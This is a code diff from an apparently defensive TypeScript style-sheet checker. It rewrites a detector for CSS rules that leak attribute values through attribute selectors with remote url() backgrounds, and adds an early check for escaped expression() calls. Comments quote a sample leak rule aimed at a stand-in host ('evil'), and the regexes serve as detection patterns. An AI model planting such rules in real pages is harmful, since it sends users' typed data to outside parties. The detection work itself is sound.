@@ -33,13 +33,17 @@ export function isScriptStyle(css: string): boolean {
   );
 }
 
-/** `[value^=a]{background:url(//evil/a)}`: a rule that sends what a field holds to an address. */
-const leak =
-  /\[\s{0,4}[\w-]{1,24}\s{0,4}[\^$*~|]=[^\]]{0,64}\][^{}]{0,64}\{[^{}]{0,128}url\s{0,4}\(\s{0,4}["']?(?:https?:)?\/\//;
+/** `[value^=a]`: a selector by a part of what an attribute holds. */
+const partOfAttribute = /\[\s{0,4}[\w-]{1,24}\s{0,4}[\^$*~|]=/;
+const remote = /url\s{0,4}\(\s{0,4}["']?(?:https?:)?\/\//;
 
-/** Says whether a style sheet reads the page: a selector by a part of an attribute's value with an address behind it. */
+/** Says whether a style sheet in lower case tells an address what a field holds: `[value^=a]{background:url(//evil/a)}`. */
 export function leaksAttributes(css: string): boolean {
-  return css.includes('=') && css.includes('url') && leak.test(css.toLowerCase());
+  const selector = partOfAttribute.exec(css);
+  if (selector === null) return false;
+  const open = css.indexOf('{', selector.index);
+  const close = css.indexOf('}', open);
+  return open > 0 && remote.test(close < 0 ? css.slice(open) : css.slice(open, close));
 }
 
 /** How much of a value is looked at for an expression outside any tag. */
@@ -52,6 +56,8 @@ const MAX_BARE = 4096;
  */
 export function bareExpression(value: string): number {
   const split = value.includes('*/');
+  // An escape of its first letters, or the end of the word, which comments leave whole.
+  if (!/ession\(|\\0{0,4}(?:65|45|78|58|70|50)/i.test(value)) return -1;
   if (!split && !value.includes('\\')) {
     const found = /(?:[:{;]\s{0,4}|^)expression\(\s{0,4}[^)\s]/i.exec(
       value.length > MAX_BARE ? value.slice(0, MAX_BARE) : value,
